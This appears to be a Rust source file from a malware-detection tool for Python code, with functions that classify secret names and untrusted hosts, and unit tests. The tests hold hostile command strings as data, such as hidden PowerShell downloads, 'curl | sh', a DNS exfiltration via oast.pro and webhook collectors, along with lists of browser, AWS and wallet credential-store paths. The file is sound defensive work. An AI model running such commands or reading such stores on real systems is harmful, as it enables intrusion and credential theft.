/// The first string argument of a call.
pub fn first_str(call: &Call) -> Option<&str> {
    call.arg_strs.first().map(String::as_str)
}

/// All string literals of a unit's code.
pub fn strings(code: &PyFile) -> impl Iterator<Item = &str> {
    code.strings.iter().map(|l| l.value.as_str())
}

/// How sensitive a value is, judged by what the code calls it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum SecretName {
    /// Passwords, tokens, API secrets, cookies: sent to their own service every day.
    Credential,
    /// Wallet private keys and recovery phrases: never leave the machine in honest code.
    Wallet,
}

/// Classifies an identifier or dict key (`private_key`, `seedPhrase`, `self.token`).
pub fn secret_name(ident: &str) -> Option<SecretName> {
    let n: String = ident
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .map(|c| c.to_ascii_lowercase())
        .collect();
    if n.len() > 40 {
        return None;
    }
    const WALLET: &[&str] = &[
        "mnemonic",
        "seedphrase",
        "seedwords",
        "recoveryphrase",
        "secretphrase",
        "privatekey",
        "privkey",
        "walletkey",
        "keystore",
        "wif",
    ];
    // A name for *where* or *what kind of* secret (`private_key_url`,
    // `token_type`, `password_file`) is not the secret.
    const ABOUT: &[&str] = &[
        "path", "file", "url", "uri", "type", "name", "dir", "len", "length", "size", "format", "field", "header",
    ];
    if ABOUT.iter().any(|a| n.ends_with(a)) {
        return None;
    }
    if WALLET.iter().any(|w| n.contains(w)) && !n.contains("public") {
        if service_key(ident) {
            return Some(SecretName::Credential);
        }
        return Some(SecretName::Wallet);
    }
    const CREDENTIAL: &[&str] = &[
        "password",
        "passwd",
        "token",
        "secret",
        "apikey",
        "accesskey",
        "cookie",
        "credential",
        "sessionid",
    ];
    CREDENTIAL
        .iter()
        .any(|w| n.contains(w))
        .then_some(SecretName::Credential)
}

/// A private key qualified by the service it belongs to (`atlas_private_key`,
/// `ssh_private_key`, `apiPrivateKey`): an API or SSH credential, not a
/// wallet key. Wallet words (`eth_private_key`, `wallet_privkey`) and plain
/// `private_key` stay wallet keys.
fn service_key(ident: &str) -> bool {
    let mut words: Vec<String> = Vec::new();
    let mut cur = String::new();
    let mut prev_lower = false;
    for c in ident.chars() {
        if !c.is_ascii_alphanumeric() {
            if !cur.is_empty() {
                words.push(std::mem::take(&mut cur));
            }
            prev_lower = false;
            continue;
        }
        if c.is_ascii_uppercase() && prev_lower && !cur.is_empty() {
            words.push(std::mem::take(&mut cur));
        }
        prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
        cur.push(c.to_ascii_lowercase());
    }
    if !cur.is_empty() {
        words.push(cur);
    }
    let Some(i) = words
        .iter()
        .position(|w| w == "private" || w == "privkey" || w == "privatekey")
    else {
        return false;
    };
    const WALLETISH: &[&str] = &[
        "self",
        "wallet",
        "eth",
        "btc",
        "sol",
        "tron",
        "trx",
        "bnb",
        "evm",
        "web3",
        "solana",
        "ethereum",
        "bitcoin",
        "crypto",
        "account",
        "acct",
        "signer",
        "sender",
        "owner",
        "user",
        "my",
        "your",
        "the",
        "raw",
        "hex",
        "from",
        "to",
        "new",
        "old",
        "master",
        "main",
        "hot",
        "priv",
        "secret",
        "key",
        "keys",
        "base58",
        "b58",
        "phantom",
        "metamask",
        "ton",
        "sui",
        "aptos",
        "near",
        "polygon",
        "matic",
        "arb",
        "avax",
        "x",
        "pk",
        "input",
        "get",
        "set",
        "send",
        "encrypted",
        "decrypted",
        "bip39",
        "hd",
        "seed",
        "wif",
        "coin",
        "cold",
    ];
    words[..i]
        .iter()
        .any(|w| !WALLETISH.contains(&w.as_str()) && w.chars().any(|c| c.is_ascii_alphabetic()))
}

/// Where a send goes, when it goes somewhere no project service lives
/// ([`untrusted_host`]): its string arguments, or a URL written in the same function.
pub fn untrusted_destination(code: &PyFile, call: &Call) -> Option<&'static str> {
    call.arg_strs
        .iter()
        .map(String::as_str)
        .chain(
            code.strings
                .iter()
                .filter(|l| l.scope == call.scope && l.value.contains("://"))
                .map(|l| l.value.as_str()),
        )
        .find_map(untrusted_host)
}

/// A host nobody runs a real service for another project on: free hosting
/// and serverless platforms, throw-away TLDs, or any endpoint [`endpoint_kind`]
/// knows (webhooks, collectors, tunnels, paste sites, raw IPs).
pub fn untrusted_host(s: &str) -> Option<&'static str> {
    if let Some(e) = endpoint_kind(s).filter(|e| !matches!(e, Endpoint::IpLookup | Endpoint::CloudMetadata)) {
        return Some(e.describe());
    }
    let l = s.to_ascii_lowercase();
    let start = l.find("://")? + 3;
    let host: &str = l[start..].split(['/', '?', '#', ':']).next().unwrap_or("");
    const HOSTING: &[&str] = &[
        ".herokuapp.com",
        ".onrender.com",
        ".netlify.app",
        ".vercel.app",
        ".cloudfunctions.net",
        ".workers.dev",
        ".pages.dev",
        ".glitch.me",
        ".repl.co",
        ".replit.dev",
        ".replit.app",
        ".pythonanywhere.com",
        ".000webhostapp.com",
        ".firebaseio.com",
        ".web.app",
        ".deno.dev",
        ".fly.dev",
        ".railway.app",
        ".run.app",
        ".azurewebsites.net",
    ];
    if HOSTING.iter().any(|h| host.ends_with(h)) {
        return Some("a free hosting/serverless platform");
    }
    const TLDS: &[&str] = &[
        ".xyz", ".top", ".tk", ".ml", ".ga", ".cf", ".gq", ".pw", ".icu", ".buzz", ".click", ".rest", ".cyou", ".sbs",
        ".lol", ".monster",
    ];
    TLDS.iter()
        .any(|t| host.ends_with(t))
        .then_some("a host under a throw-away top-level domain")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hidden_powershell_is_strong_unless_it_only_shows_a_dialog() {
        let dialog = "powershell -WindowStyle Hidden -Command Add-Type -AssemblyName System.Windows.Forms; [System.Windows.Forms.MessageBox]::Show($env:MSG, 'KE', 'YesNo')";
        assert!(!is_strong_command(dialog));
        for cmd in [
            "powershell -WindowStyle Hidden -Command Start-Sleep 5; Remove-Item $env:TEMP\\x",
            "powershell -w hidden -c \"iwr http://198.51.100.7/a.exe -OutFile a.exe\"",
            &format!("{dialog}; iwr http://198.51.100.7/a -OutFile a.exe"),
            &format!("{dialog}; Start-Process a.exe"),
        ] {
            assert!(is_strong_command(cmd), "{cmd}");
        }
    }

    /// The walker and the rules read one table each for decoders, executors
    /// and commands (issue 11): a name the walker treats as a sink is one the
    /// rules know, and the tables hold no duplicates.
    #[test]
    fn sink_tables_are_shared_and_distinct() {
        for table in [DECODERS, EXECUTORS] {
            let mut sorted = table.to_vec();
            sorted.sort_unstable();
            sorted.dedup();
            assert_eq!(sorted.len(), table.len(), "duplicate in {table:?}");
        }
        for name in EXECUTORS {
            assert!(is_exec(name) && !is_shell(name) && !is_decoder(name), "{name}");
        }
        for name in DECODERS {
            assert!(is_decoder(name) && !is_exec(name), "{name}");
        }
        for name in [
            "os.system",
            "os.execve",
            "pty.spawn",
            "subprocess.Popen",
            "os.posix_spawn",
        ] {
            assert!(is_shell(name), "{name}");
        }
        for name in ["requests.post", "socket.socket().sendall", "smtplib.SMTP().sendmail"] {
            assert!(is_send(name), "{name}");
        }
        for name in ["requests.get", "urllib.request.urlretrieve", "flask.request.post"] {
            assert!(!is_send(name), "{name}");
        }
        assert!(keeps_callable("staticmethod") && !keeps_callable("threading.Thread"));
        for c in [
            "wget -O a.csv http://x/a.csv",
            "cd m && git pull && git submodule update --init",
            "cd m && git show --pretty=oneline|head -n 1",
            "curl -fsSL https://x",
            "curl -fsSL https://example.org/tc-{}.tgz | tar xz",
        ] {
            assert!(fetch_only_command(c), "{c}");
        }
        for c in [
            "curl -fsSL https://x | sh",
            "curl -o a https://x && sh a",
            "cd /tmp",
            "bash -i",
            "cd C:/ && curl https://copy-paste.me/private/d.exe -o d.exe",
            "wget http://203.0.113.9/x -O x",
            "curl -fsSL https://x/t.tgz | tar xz && ./t/install",
        ] {
            assert!(!fetch_only_command(c), "{c}");
        }
        for name in ["subprocess.PIPE", "os.path.join", "exec_module"] {
            assert!(!is_shell(name) && !is_exec(name), "{name}");
        }
    }

    #[test]
    fn wallet_names_are_words() {
        for s in [
            "AppData/Roaming/Guarda/Local Storage",
            "Exodus/exodus.wallet",
            "electrum/wallets",
        ] {
            assert_eq!(secret_kind(s), Some(Secret::Wallet), "{s}");
        }
        for s in ["I,GuardAddressTakenIatEntryTable", "AIGuardAbortError", "exodusbook"] {
            assert_eq!(secret_kind(s), None, "{s}");
        }
    }

    #[test]
    fn hosts_match_on_label_boundaries() {
        // Error: collector hosts as hosts.
        for s in [
            "https://abc.oast.fun/x",
            "x.oast.me",
            "nslookup $(whoami).x.oast.pro",
            "https://webhook.site/abc",
        ] {
            assert_eq!(endpoint_kind(s), Some(Endpoint::Collector), "{s}");
        }
        // No error: the same letters inside another label (issue 11).
        for s in [
            "https://api.toast.com/v1",
            "https://broast.example.org",
            "https://mywebhook.sites.net",
        ] {
            assert_eq!(endpoint_kind(s), None, "{s}");
        }
    }

    #[test]
    fn secret_stores_are_paths_not_prose() {
        // Error: paths and names of credential stores.
        for s in [
            "Login Data",
            r"Google\Chrome\User Data\Default\Login Data",
            "{}/BraveSoftware/Brave-Browser/User Data",
            "discord/Local Storage/leveldb",
            "~/.aws/credentials",
        ] {
            assert!(secret_kind(s).is_some(), "{s}");
        }
        // No error: log messages and browser programs (issue 11).
        for s in [
            "Posting login data to %s",
            "Could not read the login data from the server.",
            r"C:\Program Files\BraveSoftware\Brave-Browser\Application\brave.exe",
        ] {
            assert_eq!(secret_kind(s), None, "{s}");
        }
    }

    #[test]
    fn private_keys_of_services_are_credentials() {
        for n in [
            "private_key",
            "privateKey",
            "eth_private_key",
            "wallet_privkey",
            "self.private_key",
            "mnemonic",
        ] {
            assert_eq!(secret_name(n), Some(SecretName::Wallet), "{n}");
        }
        for n in [
            "atlas_private_key",
            "ssh_private_key",
            "apiPrivateKey",
            "api_token",
            "password",
        ] {
            assert_eq!(secret_name(n), Some(SecretName::Credential), "{n}");
        }
        for n in [
            "public_key",
            "key_path",
            "private_key_file",
            "token_url",
            "private_key_url",
            "password_length",
        ] {
            assert_eq!(secret_name(n), None, "{n}");
        }
    }
}
